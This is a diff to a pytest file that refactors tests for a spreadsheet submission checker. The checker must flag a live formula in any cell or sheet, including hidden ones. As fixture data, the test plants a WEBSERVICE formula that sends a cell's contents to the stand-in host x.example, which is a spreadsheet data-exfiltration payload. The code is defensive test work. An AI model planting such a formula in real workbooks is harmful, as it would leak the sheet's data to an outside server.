@@ -125,26 +125,40 @@ def judged(season: Trial, data: bytes, folder: Path) -> dict[str, Any]:
     return season.verdict(path, DAY)
 
 
-@pytest.mark.parametrize("place", ["entry", "locked", "outside", "own sheet", "hidden sheet"])
-def test_a_live_formula_anywhere_goes_back_with_its_cell(season: Trial, filled: Path, tmp_path: Path, place: str) -> None:
-    """Judged twice in one process, as all guards are."""
-    book = openpyxl.load_workbook(filled)
-    cell = filling.cells_of(book, "basics.rationale")[0]
-    if place == "locked":
-        cell = book[cell.parent.title]["A1"]
-    elif place == "outside":
-        cell = book[cell.parent.title]["J40"]
-    elif place == "own sheet":
-        cell = book.create_sheet("ของฉัน")["B2"]
-    elif place == "hidden sheet":
-        cell = book["_lists"]["Z9"]
-    cell.value = '=WEBSERVICE("http://x.example/"&A1)'
-    book.save(tmp_path / "sent.xlsx")
-    for _ in range(2):
-        verdict = season.verdict(tmp_path / "sent.xlsx", DAY)
+PLACES = ("entry", "locked", "outside", "own sheet", "hidden sheet")
+
+
+@pytest.fixture(scope="module")
+def placed(season: Trial, filled: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str, list[dict[str, Any]]]]:
+    """Give, by where a live formula was put, its sheet and cell and the verdicts of two calls of `check`."""
+    folder = tmp_path_factory.mktemp("placed")
+    where, paths = {}, []
+    for place in PLACES:
+        book = openpyxl.load_workbook(filled)
+        cell = filling.cells_of(book, "basics.rationale")[0]
+        if place == "locked":
+            cell = book[cell.parent.title]["A1"]
+        elif place == "outside":
+            cell = book[cell.parent.title]["J40"]
+        elif place == "own sheet":
+            cell = book.create_sheet("ของฉัน")["B2"]
+        elif place == "hidden sheet":
+            cell = book["_lists"]["Z9"]
+        cell.value = '=WEBSERVICE("http://x.example/"&A1)'
+        paths.append(str(folder / f"{place}.xlsx"))
+        book.save(paths[-1])
+        where[place] = (cell.parent.title, cell.coordinate)
+    calls = [season.run("check", *paths, "--json", day=DAY).json() for _ in range(2)]
+    return {place: (*where[place], [call[at] for call in calls]) for at, place in enumerate(PLACES)}
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_a_live_formula_anywhere_goes_back_with_its_cell(placed: dict[str, tuple[str, str, list[dict[str, Any]]]], place: str) -> None:
+    sheet, cell, verdicts = placed[place]
+    for verdict in verdicts:
         found = [item for item in verdict["findings"] if item["code"] == "LIVE_FORMULA"]
         assert (verdict["verdict"], verdict["agency"]) == ("returned", "D01021")
-        assert [(item["sheet"], item["cell"], item["severity"]) for item in found] == [(cell.parent.title, cell.coordinate, "error")]
+        assert [(item["sheet"], item["cell"], item["severity"]) for item in found] == [(sheet, cell, "error")]
         assert found[0]["message"] and found[0]["fix"]
 
 
